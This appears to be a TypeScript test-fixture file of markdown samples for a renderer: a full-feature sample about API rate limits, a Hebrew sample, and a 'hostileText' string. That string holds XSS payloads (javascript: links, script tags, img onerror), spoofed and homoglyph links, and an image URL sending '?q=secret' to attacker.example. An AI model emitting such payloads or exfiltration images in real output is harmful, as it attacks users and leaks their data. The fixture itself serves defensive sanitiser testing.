/** Every element once or more. */
export const everyElement = `# What a gateway does

A gateway stands **between** clients and servers. It answers \`429\` when *too many* requests come, ~~drops~~ delays the rest,
and [says how long to wait](https://example.com/retry-after "Retry-After"). More on https://example.com/limits and in the note.[^1]
A line that\\
breaks hard.

## In steps

1. Read the header.
2. Wait:
   - in seconds, or
   - until a date.

     A second paragraph in an item.
3. Try again.

- [x] Limits are read
- [ ] Waiting is tested

### A table

| Plan | Requests per minute | Price | Remarks |
|:-----|--------------------:|:-----:|---------|
| Free | 3 | 0 | for **trying out** |
| Team | 60 | 20 | \`x-ratelimit-limit-requests\` tells |
| Large | 900 | 200 | [by contract](https://example.com/contract) |

#### Code

\`\`\`ts
export async function ask(url: string): Promise<Response> {
  const response = await fetch(url, { headers: { accept: "text/event-stream", "x-request-id": crypto.randomUUID() } });
  return response.status === 429 ? wait(response) : response;
}
\`\`\`

    indented code

> Whoever waits as told is served sooner.
>
> > And is thanked for it.

> [!NOTE]
> Limits are per key.

> [!WARNING]
> Trying again at once makes it worse.

---

![A diagram of the gateway](https://images.example/gateway.png)

<details>HTML is shown as it is written.</details>

[^1]: Some servers send a date instead of seconds.
`;

/** Hebrew with code, numbers and Latin names. */
export const hebrewText = `# מגבלות קצב

שער ה-API מחזיר **429** כאשר מגיעות *יותר מדי* בקשות. ראו את \`Retry-After\` ואת [התיעוד](https://example.com/docs).

- קראו את הכותרת
- המתינו \`20\` שניות
  - ואז נסו שוב

1. ראשית
2. שנית

> ציטוט קצר.

| תוכנית | בקשות |
|--------|------:|
| חינם | 3 |
| צוות | 60 |

\`\`\`ts
const response = await fetch(url);
\`\`\`
`;

/** What a model can be made to write. */
export const hostileText = `[Your account](javascript:alert(1)) and [here](data:text/html,x) and <vbscript:x>

[bank.example/login](https://evil.example/login) is not your bank, nor is [this](https://bank.example@evil.example).

[аpple](https://аpple.com) and [gpj.elpmaxe\u202E](https://example.com) and \`a\u200Bb\`

![Picture](https://attacker.example/?q=secret) ![Vector](data:image/svg+xml,x)

<script>alert(1)</script>

<p style="position:fixed;inset:0">HTML <img src=x onerror=alert(1)></p>
`;
